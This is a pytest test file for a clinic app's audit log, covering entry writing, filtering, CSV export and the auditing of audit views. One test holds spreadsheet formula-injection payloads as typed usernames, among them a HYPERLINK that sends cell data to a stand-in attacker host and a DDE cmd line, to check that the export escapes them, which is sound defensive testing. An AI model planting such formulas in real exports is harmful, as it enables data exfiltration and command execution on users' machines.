"""What the audit trail says: who, when, what, which record, for each opening, edit, merge
and settings change; a manager filters and exports it, and looking is audited too."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from clinic_app.domain.clock import FixedClock
from clinic_app.domain.roles import Actor
from clinic_app.security.accounts import LoginFailed
from clinic_app.security.audit import CSV_FIELDS
from clinic_app.services.clinic import Clinic
from tests.security.conftest import JUMA, MARIA, audit_count, entries


def _one_new(clinic: Clinic, before: int) -> Any:
    assert audit_count(clinic) == before + 1
    return entries(clinic, limit=1)[0]


@pytest.fixture
def desk(clinic: Clinic, staff: dict[str, Actor]) -> Actor:
    clinic.access.actor = staff["front_desk"]
    return staff["front_desk"]


def test_each_patient_action_writes_one_entry(clinic: Clinic, desk: Actor,
                                              staff: dict[str, Actor],
                                              clock: FixedClock) -> None:
    n = audit_count(clinic)
    maria = clinic.patients.register(dict(MARIA), confirmed_new=True)
    e = _one_new(clinic, n)
    assert (e.action, e.username, e.table_name, e.row_id) == \
        ("patient.create", "grace", "patients", maria.id)
    assert e.details == {"clinic_number": maria.clinic_number} and e.at.startswith("2026-11-23")

    clock.advance(minutes=3)
    n = audit_count(clinic)
    clinic.patients.open(maria.id)
    e = _one_new(clinic, n)
    assert (e.action, e.username, e.row_id, e.at) == ("patient.open", "grace", maria.id,
                                                      "2026-11-23T09:33:00.000Z")

    n = audit_count(clinic)
    clinic.patients.update(maria.id, {"village": "Lindi", "phones": ["0799 000 111"],
                                      "family_name": "González"})  # unchanged: not listed
    e = _one_new(clinic, n)
    assert (e.action, e.row_id) == ("patient.edit", maria.id)
    assert e.details == {"fields": ["phones", "village"]}
    shown = json.dumps(e.details, ensure_ascii=False)
    assert "Lindi" not in shown and "799" not in shown and "Kibera" not in shown

    clinic.access.actor = staff["manager"]
    juma = clinic.patients.register(dict(JUMA), confirmed_new=True)
    n = audit_count(clinic)
    clinic.patients.merge(maria.id, juma.id)
    e = _one_new(clinic, n)
    assert (e.action, e.username, e.table_name, e.row_id) == \
        ("patient.merge", "amina", "patients", maria.id)
    assert e.details["merged"] == juma.id and isinstance(e.details["moved"], dict)

    n = audit_count(clinic)
    clinic.settings.update({"clinic_name": "Kibera Clinic", "idle_lock_minutes": 10})
    e = _one_new(clinic, n)
    assert (e.action, e.username, e.table_name) == ("settings.change", "amina", "settings")
    assert e.details == {"keys": ["clinic_name", "idle_lock_minutes"]}
    n = audit_count(clinic)
    clinic.settings.update({"clinic_name": "Kibera Clinic"})  # no change, nothing to audit
    assert audit_count(clinic) == n
    assert clinic.audit.verify().ok


def test_a_refused_log_in_name_cannot_turn_into_a_spreadsheet_formula(
        clinic: Clinic, staff: dict[str, Actor]) -> None:
    """Anyone at the log-in screen can type a 'username'; the export must stay inert."""
    for typed in ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                  "@SUM(1+1)", "-2+3"):
        with pytest.raises(LoginFailed):
            clinic.accounts.login(typed, "whatever-1")
    clinic.access.actor = staff["manager"]
    rows = list(csv.DictReader(io.StringIO(clinic.audit.export_csv(action="auth."))))
    users = [r["user"] for r in rows if r["action"] == "auth.login_failed"]
    assert len(users) == 4
    assert all(u[0] not in "=+-@\t\r" for u in users), users
    assert any("HYPERLINK" in u for u in users)  # kept, only made inert


@pytest.fixture
def history(clinic: Clinic, staff: dict[str, Actor], clock: FixedClock) -> dict[str, Any]:
    """Entries over three days by three people."""
    clinic.access.actor = staff["front_desk"]
    maria = clinic.patients.register(dict(MARIA), confirmed_new=True)
    clinic.patients.open(maria.id)
    clock.advance(days=1)
    clinic.access.actor = staff["clinician"]
    clinic.patients.open(maria.id)
    clinic.patients.update(maria.id, {"village": "Lindi"})
    clock.advance(days=1)
    clinic.access.actor = staff["manager"]
    clinic.settings.update({"clinic_name": "Kibera Clinic"})
    clinic.patients.open(maria.id)
    return {"maria": maria}


def test_search_filters_by_time_user_and_action_and_is_itself_audited(
        clinic: Clinic, history: dict[str, Any], clock: FixedClock) -> None:
    day2 = "2026-11-24"
    got = clinic.audit.search(since=day2)
    assert {e.at[:10] for e in got} == {"2026-11-24", "2026-11-25"}
    assert [e.action for e in got] == ["patient.open", "settings.change", "patient.edit",
                                       "patient.open"]
    viewed = entries(clinic, limit=1)[0]
    assert (viewed.action, viewed.username) == ("audit.view", "amina")
    assert viewed.details["shown"] == 4 and day2 in json.dumps(viewed.details)

    got = clinic.audit.search(username="daniel")
    assert [e.action for e in got] == ["patient.edit", "patient.open"]
    got = clinic.audit.search(action="patient.")
    assert all(e.action.startswith("patient.") for e in got) and len(got) == 5
    assert "patient." in json.dumps(entries(clinic, limit=1)[0].details)
    got = clinic.audit.search(action="patient.open", row_id=history["maria"].id)
    assert [e.username for e in got] == ["amina", "daniel", "grace"]
    got = clinic.audit.search(since=day2, username="grace")
    assert got == []
    views = clinic.audit.repo.search(action="audit.view")
    assert len(views) == 5 and all(v.username == "amina" for v in views)
    assert clinic.audit.verify().ok


def test_export_is_csv_with_a_header_and_the_rows_and_is_audited(
        clinic: Clinic, history: dict[str, Any]) -> None:
    wanted = entries(clinic, action="patient.")
    text = clinic.audit.export_csv(action="patient.")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert text.splitlines()[0] == ",".join(CSV_FIELDS)
    assert [int(r["seq"]) for r in rows] == [e.seq for e in wanted]
    edit = next(r for r in rows if r["action"] == "patient.edit")
    assert edit["user"] == "daniel" and edit["row_id"] == history["maria"].id
    assert edit["table"] == "patients" and edit["details"] == "fields=['village']"
    assert all(len(r["hash"]) == 64 for r in rows)
    exported = entries(clinic, limit=1)[0]
    assert (exported.action, exported.username) == ("audit.export", "amina")
    assert exported.details["rows"] == len(rows) == 5
    everything = list(csv.DictReader(io.StringIO(clinic.audit.export_csv())))
    assert len(everything) == len(entries(clinic)) - 1  # all but this export's own entry
